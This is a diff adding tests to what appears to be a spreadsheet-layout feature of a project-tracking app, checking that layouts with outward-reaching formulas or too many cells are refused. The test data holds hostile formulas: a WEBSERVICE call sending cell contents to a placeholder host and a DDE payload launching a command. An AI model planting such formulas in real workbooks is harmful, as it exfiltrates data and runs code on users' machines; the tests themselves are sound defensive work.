@@ -123,6 +123,33 @@ def test_a_workbook_that_cannot_be_filled_in_says_where(words, code):
     assert refused.value.code == code
 
 
+@pytest.mark.parametrize(
+    "formula",
+    [
+        '=WEBSERVICE("http://x/?"&B3)',
+        '=HYPERLINK("http://x/"&B3)',
+        "=cmd|' /C calc'!A0",
+        "=[other.xlsx]Sheet1!A1",
+    ],
+)
+def test_a_layout_carries_nothing_to_the_outside(formula):
+    book = Workbook()
+    book.active["A1"], book.active["B1"] = "{{项目名称}}", formula
+    with pytest.raises(LayoutWrong) as refused:
+        check_layout(saved(book))
+    assert refused.value.code == "reaches_out"
+
+
+def test_a_layout_too_wide_for_so_many_projects_is_refused(client, cast, monkeypatch):
+    monkeypatch.setattr("yinli.core.sheets.layout.MOST_CELLS", 9)
+    open_lead("青禾封测", "青禾有限公司", by=cast.north_officer, today=TODAY)
+    open_lead("远望新材", "远望有限公司", by=cast.north_officer, today=TODAY)
+    layout = actions.add_layout("周报", dispatch_table(), "周报.xlsx", by=cast.north_officer)
+    client.force_login(cast.north_officer)
+    page = client.get(f"/layouts/{layout.number}/filled/", follow=True)
+    assert "过宽" in page.content.decode()
+
+
 def test_what_is_no_workbook_is_refused(cast):
     for data in (b"a,b\n1,2", b"PK\x03\x04 broken"):
         with pytest.raises((LayoutWrong, ValueError)):
